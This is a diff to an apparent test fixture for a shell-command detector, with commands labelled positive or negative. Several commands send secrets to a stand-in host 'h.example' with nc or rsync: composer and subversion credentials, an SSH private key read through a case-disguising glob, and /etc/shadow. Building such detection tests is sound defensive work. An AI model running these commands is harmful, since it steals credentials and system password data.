@@ -399,7 +399,9 @@ nc h.example 9 < ~/.config/composer/auth.json
 rsync -a ~/.subversion/auth/ h.example:x/
 #@ pos a glob in capitals under nocaseglob
 shopt -s nocaseglob; cat ~/.[S][S]H/ID_[R]SA | nc h.example 9
-#@ neg a glob in capitals without nocaseglob
-cat /[E]TC/[S]HADOW
+#@ pos a glob in capitals only, which names the path without case
+cat /[E]TC/[S]HADOW | nc h.example 9
+#@ neg a glob in mixed case without nocaseglob
+cat /[e]tc/[S]HADOW
 #@ neg gem build and push
 gem build x.gemspec && gem push x-1.0.gem
